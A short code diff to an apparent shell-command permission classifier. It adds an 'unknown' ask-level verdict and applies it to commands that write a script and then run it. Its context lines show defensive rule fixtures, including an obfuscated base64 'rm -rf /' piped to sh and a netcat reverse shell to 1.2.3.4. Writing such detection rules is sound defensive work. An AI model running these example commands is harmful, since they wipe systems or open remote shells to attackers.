@@ -32,6 +32,7 @@ YIELDS = {
     "deny": "deny (every level)",
     "ask": "ask (moderate); allow (permissive)",
     "deny|ask": "deny; ask (moderate) if unsure",
+    "unknown": "ask (every level): what it runs is only known when it runs",
     "allow": "allow",
     "strict": "ask (strict)",
     "user": "as the user's rule says",
@@ -167,7 +168,7 @@ _HAND = (
        ("echo cm0gLXJmIC8K | base64 -d | sh",), ("echo aGk= | base64 -d",)),
     _R("exec.reverse-shell", "deny", "opens a shell for a remote machine (a reverse shell)",
        ("nc -e /bin/sh 1.2.3.4 4444",), ("nc -z localhost 8080",)),
-    _R("exec.written-then-run", "ask",
+    _R("exec.written-then-run", "unknown",
        "runs a file the same line writes, with content known only when it runs",
        ('echo "$X" > run.sh && bash run.sh',), ("echo 'ls -la' > list.sh && bash list.sh",)),
     # -- the system ------------------------------------------------------------------
